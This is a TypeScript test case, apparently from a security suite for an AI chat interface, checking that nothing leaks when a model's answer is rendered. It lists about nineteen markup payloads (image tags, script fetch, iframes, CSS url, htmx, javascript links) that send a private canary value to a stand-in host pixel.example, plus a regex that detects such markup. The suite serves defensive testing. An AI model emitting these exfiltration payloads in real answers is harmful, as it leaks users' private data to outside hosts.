import { type Attack, check, none } from "../attack.ts";

const D = "https://pixel.example/p?d=";

const payloads = (value: string): readonly string[] => [
  `![](${D}${value})`,
  `<img src="${D}${value}">`,
  `<img srcset="${D}${value} 2x">`,
  `<script src="${D}${value}"></script>`,
  `<script>fetch("${D}${value}")</script>`,
  `<iframe src="${D}${value}"></iframe>`,
  `<object data="${D}${value}"></object>`,
  `<embed src="${D}${value}">`,
  `<video poster="${D}${value}"></video>`,
  `<link rel="prefetch" href="${D}${value}">`,
  `<meta http-equiv="refresh" content="0;url=${D}${value}">`,
  `<base href="${D}${value}">`,
  `<style>body{background:url(${D}${value})}</style>`,
  `<p style="background:url(${D}${value})">x</p>`,
  `<svg><image href="${D}${value}"/></svg>`,
  `<form action="${D}${value}"><button>go</button></form>`,
  `<div hx-get="${D}${value}" hx-trigger="load">x</div>`,
  `<div data-hx-get="${D}${value}" hx-swap-oob="true" id="main">x</div>`,
  `<a href="javascript:fetch('${D}${value}')" onclick="x()">go</a>`,
];

/** Markup that would load, send or run: none of it may stand in a page for what a model said. */
const live =
  /<(?:iframe|object|embed|base|meta http-equiv="refresh")\b|\s(?:src|srcset|poster|action|style|data|(?:data-)?hx-(?:get|post)|on[a-z]+)="[^"]*pixel\.example/gi;

export const nothingByRendering: Attack = {
  id: "cm-09",
  promise: "Nothing leaves by rendering",
  about:
    "The model answers with markup of every kind that loads an address by itself. The page that is served is searched for what would load it, and its policy for what lets it; no browser is opened here.",
  async run(world) {
    const all = payloads(world.canary.privateText);
    world.model.obey("show it.", [{ say: all.join("\n\n") }]);
    const thread = await world.newThread();
    await world.ask(thread, "show it.");
    const { status, text, headers } = await world.page(`/threads/${thread}`);
    const policy = headers.get("content-security-policy") ?? "";
    const directive = (name: string): string =>
      new RegExp(`(?:^|;)\\s*${name}\\s([^;]*)`).exec(policy)?.[1]?.trim() ?? "";
    return [
      check(
        "the page is served, with the answer",
        status === 200 && text.includes(world.canary.privateText),
        `HTTP ${status}`,
      ),
      none(
        "markup of the answer that loads or runs",
        [...text.matchAll(live)].map(([found]) => found),
      ),
      check(
        "the page may load from its own address alone",
        directive("default-src") === "'none'" &&
          ["img-src", "connect-src", "form-action"].every((name) => !/https?:|\*/.test(directive(name))),
        policy,
      ),
      none("a request that left", world.outside.left),
    ];
  },
};
